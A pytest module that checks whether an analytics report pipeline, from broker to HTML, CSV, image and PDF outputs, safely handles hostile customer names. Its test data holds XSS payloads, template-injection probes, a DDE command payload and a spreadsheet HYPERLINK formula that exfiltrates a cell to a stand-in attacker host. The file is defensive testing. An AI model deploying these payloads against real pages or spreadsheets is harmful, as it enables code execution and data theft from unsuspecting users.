"""Hostile names are followed from the broker through the lake and the paths into every output."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import polars as pl
import pytest
from PIL import Image
from pypdf import PdfReader

from ingest.kafka.producer import produce
from ingest.kafka.topics import create_topics
from ingest.message import Message
from ingest.samples.broker import EmbeddedBroker
from journeys.commands import steps
from journeys.settings import Settings
from tests.reports.chromium import chromium, visited
from tests.reports.published import agreeing

pytestmark = [pytest.mark.broker, pytest.mark.browser]

NAMES = (
    "</script><script>window.pwned=1</script>",
    "\"quoted\" & 'single' <img src=x onerror=window.pwned=1>",
    "مرحبا \u202eبالعالم",
    "🎉 party 👩‍👩‍👧 🎉",
    "long " + "x" * 195,
    "",
    "nul\x00 \x1b[31mred",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|'/C calc'!A0",
    "javascript:window.pwned=1",
    "${window.pwned=1}{{7*7}}",
)
START = datetime(2026, 6, 1, tzinfo=UTC)
CUSTOMERS = 1400
SECRET = "someone-secret"
FORMULA = re.compile(r"^[\s\x00]*[=+\-@]")


def _config() -> str:
    text = partial(json.dumps, ensure_ascii=False)
    return f"""
[[ingest.streams]]
topic = "clicks"
kind = "clickstream"
channel = "web"
[[ingest.streams]]
topic = "orders"
kind = "order"
channel = "web"
[[ingest.streams]]
topic = "voices"
kind = "feedback"
channel = "email"
[paths]
goal = ["order_placed"]
context = ["device", "campaign", "properties.page"]
[[paths.stages]]
name = {text(NAMES[0])}
touchpoints = {text([name for name in NAMES if name])}
[[paths.stages]]
name = {text(NAMES[7])}
touchpoints = ["product_viewed", "", "feedback"]
[[paths.stages]]
name = "Action"
touchpoints = ["order_placed"]
[report]
title = {text(NAMES[0])}
window = "7d"
compare = "14d"
segments = ["device", "campaign", "page"]
explore = ["device", "campaign"]
values_per_segment = 30
files = true
"""


def _messages() -> Iterator[Message]:
    for number in range(CUSTOMERS):
        name, other = NAMES[number % len(NAMES)], NAMES[number // len(NAMES) % len(NAMES)]
        at = START + timedelta(minutes=50 * number)
        known = {"customer_id": f"{SECRET}-{number}", "device": name, "campaign": other, "properties": {"page": name}}
        feedback = {"kind": "feedback", "survey": "csat", "score": 1 + number % 5, "feedback_text": name}
        ordered = {"kind": "order", "order_id": str(number), "revenue": "9.00", "currency": "EUR"}
        first = {"event_name": name or "visited", **known}
        for minute, (topic, fields) in enumerate(
            [
                ("clicks", first),
                ("clicks", {"event_name": "product_viewed", **known}),
                *([("clicks", {**first, "properties": {"page": other}})] if number % 3 else []),
                *([("orders", {"event_name": "order_placed", **known, **ordered})] if number % 2 else []),
                *([("voices", {"event_name": "feedback", **known, **feedback})] if number % 4 == 0 else []),
            ]
        ):
            moment = int((at + timedelta(minutes=minute)).timestamp() * 1000)
            event = {"event_id": f"{number}-{minute}", "occurred_at": moment, **fields}
            yield Message(topic, b"%d" % number, json.dumps(event).encode(), moment)
    for _ in range(20):
        yield Message("clicks", b"x", b'{"event_name": "\\ud800", "customer_id": "%s"}' % NAMES[0].encode(), 1)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The newest report, in `runs` of its site, of a shop in which every name is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "journeys.toml").write_text(_config(), encoding="utf-8")
    with EmbeddedBroker() as broker:
        settings = Settings(folder / "journeys.toml", brokers=[broker.address])
        create_topics([broker.address], {"clicks": 2, "orders": 1, "voices": 1})
        produce([broker.address], _messages())
        landed = steps.land_events(settings, until_caught_up=True)
    assert landed.quarantined and sum(landed.quarantined.values()) == 20
    steps.stitch_lake(settings)
    steps.check_lake(settings)
    steps.publish_report(settings)
    (run,) = (folder / "site" / "runs").iterdir()
    return run


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


def test_every_name_passes_the_broker_unchanged(site: Path) -> None:
    index = json.loads((site / "site.json").read_text(encoding="utf-8"))
    frames = {part["id"]: part["frame"] for page in index["pages"] for part in page["parts"]}
    pages = {page["slug"] for page in index["pages"]}
    assert pages >= {"summary", "journey", "customers", "routes", "explore", "trust"}
    assert set(frames["segments"]["segment"]) >= set(NAMES)
    assert set(frames["moves"]["source"]) >= {name for name in NAMES if name}


def test_the_report_agrees_with_itself_whatever_the_names(site: Path) -> None:
    assert {"funnel", "segments", "explorer", "map", "checks", "refused"} <= agreeing.check(site)


def test_pages_run_no_foreign_code_make_no_request_and_draw_all_charts(site: Path, browser: Any) -> None:
    pages = sorted([*site.glob("*.html"), site.parents[1] / "index.html"])
    assert len(pages) >= 9
    for file in pages:
        with visited(browser, file) as visit:
            asked = [url for url in visit.requests if url != file.as_uri()]
            if file.name in ("report_static.html", "brief.html"):
                drawn = visit.page.evaluate("() => [document.scripts.length, window.pwned]")
                assert (drawn, asked, visit.complaints) == ([0, None], [], [])
                continue
            status = visit.draw_all()
            assert (status["pwned"], status["errors"], asked, visit.complaints) == (None, [], [], []), file.name
            assert status["drawn"] == status["charts"] > 0


def test_data_docs_and_history_run_no_foreign_code_and_make_no_request(site: Path, browser: Any) -> None:
    files = [*(site / "data_docs").rglob("*.html"), site.parents[1] / "history.html"]
    assert len(files) > 2
    for file in files[:3] + files[-1:]:
        with visited(browser, file) as visit:
            assert visit.page.evaluate("() => window.pwned") is None
            assert [url for url in visit.requests if not url.startswith("file:")] == []


def test_no_cell_of_a_csv_is_a_formula(site: Path, browser: Any) -> None:
    files = list((site / "data").glob("*.csv"))
    texts = 0
    for file in files:
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert "\x00" not in cell
                if FORMULA.match(cell):
                    assert re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell), f"{file.name}: {cell!r}"
                texts += "HYPERLINK" in cell
    assert len(files) > 8 and texts > 10


def test_a_table_saved_from_a_page_contains_no_formula(site: Path, browser: Any) -> None:
    with visited(browser, site / "customers.html", accept_downloads=True) as visit:
        visit.draw_all()
        visit.page.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        with visit.page.expect_download() as download:
            visit.page.locator("[data-save=segments]").click()
        saved = Path(download.value.path()).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(saved, newline="")))
    assert len(rows) > 20 and "HYPERLINK" in saved
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]


def test_png_svg_and_pdf_open_and_contain_no_code(site: Path) -> None:
    drawings, pictures = list((site / "charts").glob("*.svg")), list((site / "charts").glob("*.png"))
    assert len(drawings) == len(pictures) > 8
    for file in drawings:
        tags = {element.tag.rpartition("}")[2] for element in ElementTree.parse(file).iter()}
        assert "path" in tags and not tags & {"script", "foreignObject", "iframe", "image"}
    for file in pictures:
        with Image.open(file) as picture:
            assert sum(count > 0 for count in picture.convert("L").histogram()) > 3, file.name
            assert not getattr(picture, "text", {})
    pdf = PdfReader(site / "report.pdf")
    assert len(pdf.pages) > 3
    assert not {"/OpenAction", "/AA", "/Names", "/AcroForm"} & set(pdf.trailer["/Root"])


def test_parquet_and_json_contain_the_names_unchanged_and_no_customer(site: Path) -> None:
    segments = pl.read_parquet(site / "data" / "segments.parquet")
    assert {NAMES[0], NAMES[6], NAMES[7]} <= set(segments["segment"])
    for file in site.parents[1].rglob("*.*"):
        if file.is_file():
            assert SECRET.encode() not in file.read_bytes(), file.name
    words = " ".join(page.extract_text() for page in PdfReader(site / "report.pdf").pages)
    assert SECRET not in words
    for file in (site / "data").glob("*.parquet"):
        assert SECRET not in str(pl.read_parquet(file).rows())
